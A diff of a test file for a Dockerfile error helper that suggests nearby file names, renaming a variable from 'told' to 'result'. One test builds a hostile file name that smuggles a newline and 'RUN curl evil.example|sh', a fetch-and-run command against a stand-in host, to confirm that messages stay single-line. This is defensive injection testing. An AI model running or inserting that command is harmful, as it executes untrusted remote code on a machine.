@@ -37,10 +37,10 @@ describe('missingSource', () => {
 describe('withNearbyNames', () => {
   const missing = { path: '/app/dits/a', stage: dockerfile.stages[0] ?? null }
   test('shows what exists instead, and the probable name', () => {
-    const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
-    expect(told.message).toBe('There is no /app/dits/a in stage "build": /app holds dist, src.')
-    expect(told.hint).toBe('Did you mean /app/dist?')
-    expect(told.location).toEqual({ file: 'Dockerfile', line: 3 })
+    const result = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
+    expect(result.message).toBe('There is no /app/dits/a in stage "build": /app holds dist, src.')
+    expect(result.hint).toBe('Did you mean /app/dist?')
+    expect(result.location).toEqual({ file: 'Dockerfile', line: 3 })
   })
   test('many names are shortened', () => {
     const names = Array.from({ length: 40 }, (_, index) => `file-${index}`)
@@ -77,8 +77,8 @@ test('a symlink in the context does not show the names of other folders', async 
 test('a name stays on its line, and many long names are not compared', () => {
   const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
   const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
-  const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
-  expect(`${told.message}${told.hint}`).not.toContain('\n')
+  const result = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
+  expect(`${result.message}${result.hint}`).not.toContain('\n')
   const names = Array.from({ length: 2000 }, (_, i) => `${'d'.repeat(89)}${i}`)
   expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names }).hint).toBe('hint')
 })
